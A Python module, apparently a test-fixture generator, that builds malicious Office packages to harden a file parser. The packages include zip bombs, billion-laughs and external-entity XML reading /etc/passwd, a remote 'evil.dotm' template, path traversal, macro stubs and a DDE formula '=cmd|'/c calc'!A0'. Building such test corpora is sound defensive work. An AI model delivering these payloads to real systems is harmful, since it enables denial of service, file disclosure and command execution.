"""Hostile office packages: archives that inflate without end, lie, point elsewhere, or hold workbooks without bounds."""

import io
import struct
import zipfile
from collections.abc import Callable

Maker = Callable[[], bytes]
_RELATION = '<Relationship Id="{}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" Target="{}"{}/>'
_SHEET = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
_LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)) + "]>"
)
_OUTSIDE = '<!DOCTYPE x [<!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY net SYSTEM "http://127.0.0.1:9/x">]>'


def zipped(parts: dict[str, str | bytes]) -> bytes:
    """A zip of the parts."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
    return buffer.getvalue()


def relations(*entries: tuple[str, str, str], mode: str = "") -> str:
    """A part of relations."""
    rows = "".join(_RELATION.format(*entry, mode) for entry in entries)
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rows}</Relationships>'


def workbook_parts(sheet: str, **more: str | bytes) -> dict[str, str | bytes]:
    """The parts of a workbook with one sheet of the given XML."""
    return {
        "[Content_Types].xml": "<Types/>",
        "_rels/.rels": relations(("r1", "officeDocument", "xl/workbook.xml")),
        "xl/workbook.xml": f'<workbook {_SHEET}><sheets><sheet name="表" sheetId="1" r:id="s1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": relations(
            ("s1", "worksheet", "worksheets/sheet1.xml"), ("s2", "sharedStrings", "sharedStrings.xml")
        ),
        "xl/worksheets/sheet1.xml": sheet,
        **more,
    }


def workbook(rows: str, after: str = "", more: dict[str, str | bytes] | None = None) -> bytes:
    """A workbook of the given rows."""
    return zipped(
        workbook_parts(f"<worksheet {_SHEET}><sheetData>{rows}</sheetData>{after}</worksheet>", **(more or {}))
    )


def word(body: str, head: str = "", more: dict[str, str | bytes] | None = None) -> bytes:
    """A Word document with the given body."""
    space = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    return zipped(
        {
            "[Content_Types].xml": "<Types/>",
            "_rels/.rels": relations(("r1", "officeDocument", "word/document.xml")),
            "word/document.xml": f"{head}<w:document {space}><w:body>{body}</w:body></w:document>",
            **(more or {}),
        }
    )


def cell(reference: str, text: str) -> str:
    """A cell of text."""
    return f'<c r="{reference}" t="inlineStr"><is><t>{text}</t></is></c>'


def inflating(name: str, mebibytes: int) -> Maker:
    """A workbook with an entry that inflates to so many MiB of zeros."""

    def make() -> bytes:
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
            for part, content in workbook_parts(f"<worksheet {_SHEET}><sheetData/></worksheet>").items():
                archive.writestr(part, content)
            with archive.open(name, "w", force_zip64=True) as file:
                for _ in range(mebibytes):
                    file.write(bytes(1 << 20))
        return buffer.getvalue()

    return make


def lying_about_sizes() -> bytes:
    """A workbook whose entry says it is 10 bytes long and inflates to 300 MiB."""
    data = bytearray(inflating("xl/worksheets/sheet2.xml", 300)())
    place = data.rfind(b"PK\x01\x02")
    struct.pack_into("<I", data, place + 24, 10)
    local = data.rfind(b"PK\x03\x04", 0, place)
    struct.pack_into("<I", data, local + 22, 10)
    return bytes(data)


def overlapping() -> bytes:
    """A zip whose thousand entries all are one and the same stretch of compressed zeros."""
    single = io.BytesIO()
    with zipfile.ZipFile(single, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a" * 12, bytes(4 << 20))
    data = single.getvalue()
    start, end = data.rfind(b"PK\x01\x02"), data.rfind(b"PK\x05\x06")
    entry = bytearray(data[start:end])
    directory = b""
    for number in range(1000):
        entry[46:58] = f"xl/s{number:04d}.xml".encode()[:12].ljust(12, b"_")
        directory += bytes(entry)
    tail = bytearray(data[end:])
    struct.pack_into("<HHII", tail, 8, 1000, 1000, len(directory), start)
    return data[:start] + directory + bytes(tail)


def nested(depth: int) -> bytes:
    """Zips within zips, the innermost of zeros, called a workbook."""
    inner = zipped({"zero.bin": bytes(50 << 20)})
    for level in range(depth):
        inner = zipped({f"{level}-{copy}.zip": inner for copy in range(10)})
    return inner


def doubled() -> bytes:
    """A workbook in which two entries have one name."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in [*workbook_parts("<worksheet/>").items(), ("XL/WORKBOOK.xml", "<workbook/>")]:
            archive.writestr(name, content)
    return buffer.getvalue()


def encrypted_zip() -> bytes:
    """A zip whose entries are marked as encrypted."""
    data = bytearray(zipped({"xl/workbook.xml": "<workbook/>"}))
    data[6] |= 1
    data[data.rfind(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


def many_strings(count: int) -> bytes:
    """A workbook with so many shared strings and one cell."""
    strings = "<sst>" + "<si><t>指标</t></si>" * count + "</sst>"
    return workbook('<row r="1"><c r="A1" t="s"><v>0</v></c></row>', more={"xl/sharedStrings.xml": strings})


def many_cells(rows: int, columns: int) -> bytes:
    """A workbook of so many cells of numbers."""
    row = "<row>" + "<c><v>1</v></c>" * columns + "</row>"
    return workbook(row * rows)


def sparse(cells: int) -> bytes:
    """A workbook whose cells stand on a diagonal over the whole of a sheet."""
    rows = "".join(
        f'<row r="{1 + n * 1000}">{cell(f"{letters(1 + n * 16)}{1 + n * 1000}", "值")}</row>' for n in range(cells)
    )
    return workbook(rows)


def letters(column: int) -> str:
    """The letters of a column."""
    text = ""
    while column:
        column, rest = divmod(column - 1, 26)
        text = chr(65 + rest) + text
    return text


def merges(count: int, reference: Callable[[int], str]) -> bytes:
    """A workbook with so many merged areas."""
    areas = "".join(f'<mergeCell ref="{reference(number)}"/>' for number in range(count))
    rows = f'<row r="1">{cell("A1", "项目名称")}</row><row r="20000">{cell("CV20000", "末")}</row>'
    return workbook(rows, f"<mergeCells>{areas}</mergeCells>")


ARCHIVES: dict[str, Maker] = {
    "炸弹-图片.xlsx": inflating("xl/media/image1.png", 400),
    "炸弹-工作表.xlsx": inflating("xl/worksheets/sheet2.xml", 400),
    "炸弹-谎报大小.xlsx": lying_about_sizes,
    "炸弹-重叠.xlsx": overlapping,
    "炸弹-套娃.xlsx": lambda: nested(3),
    "炸弹-千兆.docx": lambda: word("<w:p/>" * 10, more={"word/media/a.emf": bytes(260 << 20)}),
    "实体-表.xlsx": lambda: zipped(workbook_parts(f"{_LAUGHS}<worksheet>&a9;</worksheet>")),
    "实体-文.docx": lambda: word("<w:p><w:r><w:t>&a9;</w:t></w:r></w:p>", _LAUGHS),
    "外部实体-表.xlsx": lambda: zipped(workbook_parts(f"{_OUTSIDE}<worksheet>&file;&net;</worksheet>")),
    "外部实体-文.docx": lambda: word("<w:p><w:r><w:t>&file;&net;</w:t></w:r></w:p>", _OUTSIDE),
    "远程模板.docx": lambda: word(
        "<w:p><w:r><w:t>正文</w:t></w:r></w:p>",
        more={
            "word/_rels/document.xml.rels": relations(
                ("t1", "attachedTemplate", "http://127.0.0.1:9/evil.dotm"), mode=' TargetMode="External"'
            )
        },
    ),
    "路径.xlsx": lambda: zipped({"xl/workbook.xml": "<workbook/>", "../../../../tmp/x": "x"}),
    "重名.xlsx": doubled,
    "条目过多.xlsx": lambda: zipped({"xl/workbook.xml": "", **{f"xl/{n}.xml": "" for n in range(5000)}}),
    "加密.zip": encrypted_zip,
    "深层嵌套.docx": lambda: word("<w:sdt><w:sdtContent>" * 10_000 + "<w:p/>" + "</w:sdtContent></w:sdt>" * 10_000),
    "深层嵌套.xlsx": lambda: zipped(workbook_parts("<a>" * 10_000 + "</a>" * 10_000)),
    "宏.xlsm": lambda: workbook(
        f'<row r="1">{cell("A1", "正文")}</row>',
        more={"xl/vbaProject.bin": b"\x00Shell", "xl/embeddings/oleObject1.bin": b"MZ"},
    ),
    "百万字符串.xlsx": lambda: many_strings(1_000_000),
    "单元格过多.xlsx": lambda: many_cells(20_000, 60),
    "天涯海角.xlsx": lambda: workbook(
        f'<row r="1">{cell("A1", "此")}</row><row r="1048576">{cell("XFD1048576", "彼")}</row>'
    ),
    "稀疏.xlsx": lambda: sparse(1000),
    "合并五万.xlsx": lambda: merges(50_000, lambda n: f"A{n + 1}:XFD{n + 1}"),
    "合并重叠.xlsx": lambda: merges(50_000, lambda n: f"A1:{letters(1 + n % 16_000)}{n + 2}"),
    "合并全表.xlsx": lambda: merges(1, lambda _: "A1:XFD1048576"),
    "公式注入.xlsx": lambda: workbook(
        f'<row r="1">{cell("A1", "=cmd|&apos;/c calc&apos;!A0")}{cell("B1", "@SUM(1)")}</row>'
    ),
    "表格十万行.docx": lambda: word(
        "<w:tbl>" + "<w:tr><w:tc><w:p><w:r><w:t>1</w:t></w:r></w:p></w:tc></w:tr>" * 100_000 + "</w:tbl>"
    ),
    "表格套表格.docx": lambda: word("<w:tbl><w:tr><w:tc>" * 60 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 60),
    "跨列无边.docx": lambda: word(
        '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="99999999"/></w:tcPr><w:p><w:r><w:t>1</w:t></w:r></w:p></w:tc></w:tr></w:tbl>'
    ),
    "大文档.docx": lambda: word("<w:p><w:r><w:t>绩效</w:t></w:r></w:p>" * 1_500_000),
    "冒充.xlsx": lambda: b"PK\x03\x04" + bytes(range(256)) * 40,
}
